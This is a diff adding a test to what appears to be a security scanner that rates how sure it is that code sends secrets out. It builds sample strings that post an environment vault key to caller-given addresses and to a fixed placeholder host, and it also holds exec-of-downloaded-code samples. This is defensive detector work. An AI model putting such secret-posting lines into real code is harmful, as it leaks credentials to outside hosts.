@@ -31,3 +31,15 @@ def test_a_fingerprint_stays_when_lines_move() -> None:
 def test_the_same_words_twice_are_told_apart() -> None:
     twice = [one.finding.fingerprint for one in seen(f"{FLOW}exec(code)\n") if one.page.id == "runs-download"]
     assert len(set(twice)) == 2
+
+
+def test_a_token_that_goes_where_a_caller_says_is_no_sure_theft() -> None:
+    def sure_of(address: str) -> list[Confidence]:
+        post = f"requests.post({address}, data=os.environ['VAULT_KEY'])"
+        text = f"import os, requests\ndef login(base):\n    {post}\n"
+        return [one.finding.confidence for one in seen(text) if one.page.id == "sends-secrets"]
+
+    assert (
+        sure_of("f'{base}/login'") == sure_of("'https://' + base") == sure_of("base") == [Confidence.POSSIBLE]
+    )
+    assert sure_of("'https://x.invalid/login'") == [Confidence.STRONG]
